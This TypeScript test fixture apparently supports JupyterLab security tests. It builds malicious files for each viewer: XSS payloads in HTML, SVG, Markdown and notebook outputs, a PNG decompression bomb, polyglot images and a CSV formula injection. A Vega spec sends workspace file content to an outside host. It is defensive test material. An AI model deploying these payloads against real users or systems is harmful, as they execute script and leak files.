import { deflateSync } from 'zlib';

/** Set by each script of these files, should one run. */
export const MARKER = 'ctadataTakenOver';

const RUN = `window.${MARKER} = true`;

/** A small file of 400 million pixels. */
function bomb(): Buffer {
  const side = 20_000;
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const frame = Buffer.alloc(body.length + 8);
    frame.writeUInt32BE(data.length);
    body.copy(frame, 4);
    frame.writeUInt32BE(crc32(body), body.length + 4);
    return frame;
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  // One bit for each pixel, grey.
  header[8] = 1;
  const rows = Buffer.alloc(side * (1 + side / 8));
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0))
  ]);
}

/** PNG's checksum (ISO 3309); Node's own is newer than the oldest that is supported. */
function crc32(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) {
      crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
    }
  }
  return ~crc >>> 0;
}

/** A notebook that tries all outputs. */
function notebook(html: string, spec: object, away: string): object {
  const display = (data: object, metadata = {}) => ({
    output_type: 'display_data',
    metadata,
    data
  });
  return {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {
      trusted: true,
      kernelspec: { name: 'python3', display_name: 'Python 3' },
      widgets: {
        'application/vnd.jupyter.widget-state+json': {
          version_major: 2,
          version_minor: 0,
          state: { w: { model_name: 'HTMLModel', state: { value: html } } }
        }
      }
    },
    cells: [
      {
        id: 'markdown',
        cell_type: 'markdown',
        metadata: { trusted: true },
        source: [`# Heading\n`, `![x](${away}/markdown) ${html}\n`, '![](a:a)'],
        attachments: { a: { 'image/svg+xml': html } }
      },
      {
        id: 'raw',
        cell_type: 'raw',
        metadata: { format: 'text/html' },
        source: html
      },
      {
        id: 'code',
        cell_type: 'code',
        execution_count: 7,
        source: { not: 'a text' },
        metadata: { trusted: true },
        outputs: [
          display({ 'application/javascript': RUN }),
          display({ 'text/html': html, 'text/plain': 'instead of HTML' }),
          display({ 'image/svg+xml': html }),
          display({ 'image/png': Buffer.from(html).toString('base64') }),
          display({
            'application/vnd.vega.v5+json': spec,
            'text/plain': 'instead of Vega'
          }),
          display({ 'text/markdown': `![x](${away}/output)` }),
          display({ 'text/latex': `$\\href{${away}/latex}{x}$` }),
          display({ 'application/pdf': 'JVBERi0=' }),
          display({ 'application/vnd.plotly.v1+json': { data: [] } }),
          display({
            'application/vnd.jupyter.widget-view+json': { model_id: 'w' }
          }),
          display({
            'text/html': `<table><tr><td>cell one<img src="${away}/cell"
              onerror="${RUN}"></td></tr></table>${html}`
          }),
          {
            output_type: 'stream',
            name: 'stdout',
            text: `\x1b[31mred\x1b[0m \x1b]8;;${away}/osc\x07link\x1b]8;;\x07 ${away}/url \u202eabc\n`
          },
          { output_type: 'update_display_data', data: { 'text/html': html } },
          null
        ]
      },
      { cell_type: 'unheard-of', source: 5, outputs: 'none' },
      null
    ]
  };
}

/**
 * Make files that run something or fetch something, where they are let: one of each kind that JupyterLab has a
 * viewer for, and some that are not what their names say.
 *
 * @param away - the address of another host, which must not be asked
 * @param inside - the address of a file of the workspace, which must not be read
 * @returns the files, and a text that is shown of each
 */
export function hostileFiles(
  away: string,
  inside: string
): Record<string, [content: string | Buffer, shown: string]> {
  const html =
    `<script>${RUN}</script><img src="${away}/image" onerror="${RUN}">` +
    `<link rel="stylesheet" href="${away}/css"><iframe src="${away}/frame"></iframe>` +
    `<video src="${away}/video" autoplay></video><body onload="${RUN}">`;
  const svg =
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script>` +
    `<image href="${away}/svg"/><style>@import url(${away}/svg.css);</style></svg>`;
  const spec = {
    $schema: 'https://vega.github.io/schema/vega/v5.json',
    data: [{ name: 't', url: inside, format: { type: 'json' } }],
    marks: [
      {
        type: 'image',
        from: { data: 't' },
        encode: { enter: { url: { signal: `'${away}/?' + datum.content` } } }
      }
    ]
  };
  const lite = {
    $schema: 'https://vega.github.io/schema/vega-lite/v5.json',
    data: { url: inside },
    mark: { type: 'image' },
    encoding: { url: { value: `${away}/lite` } }
  };
  const markdown =
    `# Heading\n![x](${away}/markdown)\n${html}\n` +
    '```mermaid\ngraph TD; A-->B; click A href "javascript:alert(1)"\n```\n';
  return {
    'evil.vg.json': [JSON.stringify(spec), 'vega/v5.json'],
    'evil.vl.json': [JSON.stringify(lite), 'vega-lite/v5.json'],
    'EVIL.VEGA': [JSON.stringify(spec), '$schema'],
    'evil.geojson': [
      JSON.stringify({ type: 'Feature', properties: { html } }),
      'Feature'
    ],
    'evil.html': [html, '<script>'],
    'evil.xhtml': [html, '<script>'],
    'evil.svg': [svg, '<svg'],
    'evil.md': [markdown, '# Heading'],
    'evil.mmd': [markdown, '# Heading'],
    'evil.tex': [`\\input{${inside}}`, '\\input'],
    'html.png': [html, '<script>'],
    'svg.PNG': [svg, '<svg'],
    'html.txt.html.jpg': [html, '<script>'],
    'polyglot.gif': [`GIF89a/*${html}*/=1;`, 'too many pixels'],
    'broken.webp': [`RIFF0000WEBP${html}`, 'This image is damaged'],
    'bomb.png': [bomb(), 'too many pixels'],
    'evil.csv': [
      `name,=HYPERLINK("${away}/csv";"x")\n<b>bold</b>,${away}/link\n`,
      '=HYPERLINK('
    ],
    'deep.json': ['['.repeat(100_000) + ']'.repeat(100_000), '[[[['],
    'order.txt': ['\x1b]0;title\x07 \u202eabc\u202c', '0;title'],
    'v3.ipynb': [
      JSON.stringify({ nbformat: 3, worksheets: [{ cells: [html] }] }),
      'worksheets'
    ],
    'none.ipynb': [html, '<script>'],
    'evil.ipynb': [
      JSON.stringify(notebook(html, spec, away)),
      'instead of Vega'
    ]
  };
}
